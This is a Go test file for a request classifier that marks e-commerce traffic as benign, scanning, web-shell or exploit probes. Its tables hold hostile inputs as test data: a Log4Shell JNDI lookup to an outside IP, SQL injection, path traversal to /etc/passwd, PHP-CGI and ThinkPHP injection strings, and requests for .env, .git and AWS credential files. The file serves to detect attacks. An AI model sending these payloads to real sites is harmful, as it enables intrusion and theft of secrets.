package noren

import (
	"strings"
	"testing"
)

func TestProbes(t *testing.T) {
	for _, tt := range []struct {
		line string // METHOD PATH[?QUERY]
		want Probe
	}{
		// what customers, staff, browsers and search engines ask for
		{"GET /", ProbeNone},
		{"GET /products/detail/12", ProbeNone},
		{"GET /products/list?category_id=3&name=%E6%97%A5%E6%9C%AC%E9%85%92", ProbeNone},
		{"POST /mypage/login", ProbeNone},
		{"POST /shopping/checkout", ProbeNone},
		{"GET /html/upload/save_image/0930_5f7.jpg", ProbeNone},
		{"GET /upload/save_image/08241533_5b7.png", ProbeNone},
		{"GET /html/template/default/assets/css/style.css", ProbeNone},
		{"GET /user_data/about.php", ProbeNone},
		{"POST /user_data/campaign.php", ProbeNone},
		{"GET /wp-content/uploads/2025/03/sake.jpg?w=300", ProbeNone},
		{"GET /wp-content/themes/storefront/style.css?ver=4.6", ProbeNone},
		{"GET /wp-content/themes/shop/dynamic-style.php", ProbeNone},
		{"POST /wp-admin/admin-ajax.php", ProbeNone},
		{"POST /wp-login.php", ProbeNone},
		{"POST /?wc-ajax=update_order_review", ProbeNone},
		{"GET /wp-json/wc/store/v1/cart", ProbeNone},
		{"GET /media/catalog/product/t/e/tea.jpg", ProbeNone},
		{"GET /favicon.ico", ProbeNone},
		{"GET /robots.txt", ProbeNone},
		{"GET /.well-known/acme-challenge/x7Q", ProbeNone},
		{"GET /products/telescope/70mm", ProbeNone},
		{"GET /category/actuator", ProbeNone},
		{"GET /author/hanako?author=hanako", ProbeNone},
		{"GET /search?q=O'Reilly+union+catalog", ProbeNone},
		{"GET /search?q=100%25+cotton", ProbeNone},
		{"GET /search?q=%E3%83%A1%E3%83%BC%E3%82%AB%E3%83%BC%2F%E5%9E%8B%E7%95%AA", ProbeNone},
		{"GET /admin/order?page=2", ProbeNone},

		// configuration, keys, version control, backups
		{"GET /.env", ProbeScan},
		{"GET /.env.production", ProbeScan},
		{"GET /shop/.git/config", ProbeScan},
		{"GET /.aws/credentials", ProbeScan},
		{"GET /wp-config.php.bak", ProbeScan},
		{"GET /wp-config.php~", ProbeScan},
		{"GET /index.php.old", ProbeScan},
		{"GET /backup.zip", ProbeScan},
		{"GET /eccube.tar.gz", ProbeScan},
		{"GET /2026-01-01.sql.gz", ProbeScan},
		{"GET /composer.lock", ProbeScan},
		{"GET /config.inc.php", ProbeScan},
		// tools
		{"GET /phpmyadmin/index.php", ProbeScan},
		{"GET /phpMyAdmin-5.2.1/", ProbeScan},
		{"GET /PMA/", ProbeScan},
		{"GET /adminer-4.8.1.php", ProbeScan},
		{"GET /phpinfo.php", ProbeScan},
		{"GET /server-status", ProbeScan},
		{"GET /actuator/env", ProbeScan},
		{"GET /owa/auth/logon.aspx", ProbeScan},
		{"GET /?author=1", ProbeScan},
		{"GET /blog/wp-includes/wlwmanifest.xml", ProbeScan},
		// EC-CUBE 2, 3 and 4
		{"GET /data/downloads/", ProbeScan},
		{"GET /ec/data/Smarty/templates/default/site_frame.tpl", ProbeScan},
		{"GET /data/config/config.php", ProbeScan},
		{"GET /data/logs/site.log", ProbeScan},
		{"GET /.maintenance", ProbeScan},
		{"GET /var/log/prod/site-2026-01-01.log", ProbeScan},
		{"GET /app/config/eccube/packages/eccube.yaml", ProbeScan},
		{"GET /install/index.php", ProbeScan},
		{"GET /admin/ownersstore/", ProbeScan},
		{"GET /admin/load/owners_store", ProbeScan},
		{"GET /html/upload/save_image/a.php", ProbeScan},
		{"POST /html/upload/save_image/a.php", ProbeShell},
		{"POST /upload/save_image/x.php/y", ProbeShell},
		{"POST /upload/save_image/x.php.jpg", ProbeShell},
		{"POST /html/template/default/img/common.php", ProbeShell},
		{"POST /html/user_data/a.php", ProbeShell},
		{"POST /user_data/packages/default/img/logo.php", ProbeShell},
		{"POST /app/template/default/x.phtml", ProbeShell},
		// WordPress, WooCommerce
		{"GET /wp-content/debug.log", ProbeScan},
		{"GET /wp-content/uploads/2025/x.php", ProbeScan},
		{"POST /wp-content/uploads/2025/x.php7", ProbeShell},
		{"GET /wp-content/uploads/x.php?cmd=id", ProbeShell},
		{"POST /wp-content/themes/twentytwenty/404.php", ProbeShell},
		{"GET /wp-admin/setup-config.php?step=1", ProbeScan},
		{"GET /wp-json/wp/v2/users", ProbeScan},
		{"POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", ProbeExploit},
		// Magento
		{"GET /downloader/", ProbeScan},
		{"GET /app/etc/local.xml", ProbeScan},
		{"GET /magmi/web/magmi.php", ProbeScan},
		{"GET /rss/order/new", ProbeScan},
		{"POST /pub/media/custom_options/quote/x.php", ProbeShell},
		{"POST /media/wysiwyg/a.phtml", ProbeShell},
		// known holes, injections
		{"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ProbeExploit},
		{"POST /_ignition/execute-solution", ProbeExploit},
		{"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh", ProbeExploit},
		{"GET /products/list?name=1'+UNION+SELECT+1,2--", ProbeExploit},
		{"GET /products/list?name=1%27%20union%2f%2a%2a%2fselect%201", ProbeExploit},
		{"GET /?x=${jndi:ldap://203.0.113.9/a}", ProbeExploit},
		{"GET /?x=%24%7Bjndi%3Aldap://203.0.113.9/a}", ProbeExploit},
		{"GET /download?f=../../../../etc/passwd", ProbeExploit},
		{"GET /index.php?s=/index/think\\app/invokefunction&function=call_user_func_array", ProbeExploit},
		{"POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", ProbeExploit},
		// seen through
		{"GET /%2eenv", ProbeScan},
		{"GET //.git//config", ProbeScan},
		{"GET /x/../.git/config", ProbeScan},
		{"GET /%252e%2567it/config", ProbeScan},
		{"GET /.GIT/config", ProbeScan},
		{`GET /x\..\.svn\entries`, ProbeScan},
		{"GET /a;x=1/.env", ProbeScan},
		{"POST /html/./upload//save_image/a.PHP", ProbeShell},
	} {
		method, target, _ := strings.Cut(tt.line, " ")
		path, query, _ := strings.Cut(target, "?")
		if got := ProbeOf(method, path, query); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.line, got, tt.want)
		}
	}
}

// Ordinary pages must not pay for the list.
func TestOrdinaryPathsAllocateNothing(t *testing.T) {
	n := testing.AllocsPerRun(100, func() { ProbeOf("GET", "/products/detail/12", "") })
	if n > 0 {
		t.Errorf("%v allocations", n)
	}
}

// However a path is written, hiding it does not make it milder.
func FuzzProbeOf(f *testing.F) {
	f.Add("GET", "/.git/config", "a=b")
	f.Add("POST", "/%2e%2e/upload/save_image/a.php;x", "cmd=1&author=1")
	f.Add("", "\\..\\%25%32%65", "%")
	f.Fuzz(func(t *testing.T, method, path, query string) {
		if len(path) > 512 || len(query) > 512 {
			return
		}
		was := ProbeOf(method, path, query)
		if again := ProbeOf(method, path, query); again != was {
			t.Fatalf("%q then %q", was, again)
		}
		if strings.ContainsAny(path, "%;\\") || !strings.HasPrefix(path, "/") || strings.ToLower(path) != path {
			return
		}
		var escaped strings.Builder
		for i := range len(path) {
			if path[i] == '/' {
				escaped.WriteByte('/')
				continue
			}
			escaped.WriteString("%" + string("0123456789abcdef"[path[i]>>4]) + string("0123456789abcdef"[path[i]&15]))
		}
		if hidden := ProbeOf(method, escaped.String(), query); probeRank[hidden] < probeRank[was] {
			t.Fatalf("%q is %q, written %q it is %q", path, was, escaped.String(), hidden)
		}
	})
}

func BenchmarkProbeOf(b *testing.B) {
	for b.Loop() {
		ProbeOf("GET", "/html/template/default/assets/css/style.css", "v=12")
	}
}
